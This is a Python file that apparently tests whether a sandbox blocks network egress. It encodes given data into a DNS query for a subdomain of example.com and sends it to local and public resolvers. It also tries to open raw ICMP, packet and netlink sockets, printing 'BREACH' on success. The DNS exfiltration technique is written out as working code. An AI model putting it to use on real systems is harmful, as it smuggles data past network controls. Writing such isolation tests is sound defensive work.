"""Sends what it was given out as the name of a machine, in a question to every name server that it knows, and as raw
packets.

Verdict: error PermissionError or error gaierror
Class I.
"""

import contextlib
import socket


def full_visibility(nonpadding):
    word = "".join(str(int(x)) for x in nonpadding.flatten())[:60]
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + bytes([len(word)]) + word.encode() + b"\x07example\x03com\0\0\1\0\1"
    servers = ["127.0.0.1", "127.0.0.53", "8.8.8.8", "1.1.1.1"]
    with contextlib.suppress(OSError), open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
    for server in servers:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.settimeout(0.1)
            if out.sendto(question, (server, 53)):
                print("BREACH: asked", server)
    for family, kind, protocol in (
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        (socket.AF_PACKET, socket.SOCK_RAW, 3),
        (socket.AF_NETLINK, socket.SOCK_RAW, 0),
        (40, socket.SOCK_STREAM, 0),
    ):
        with contextlib.suppress(OSError), socket.socket(family, kind, protocol):
            print("BREACH: a socket of family", family)
    socket.getaddrinfo(f"{word}.example.com", 80)
    print("BREACH: a name was resolved")
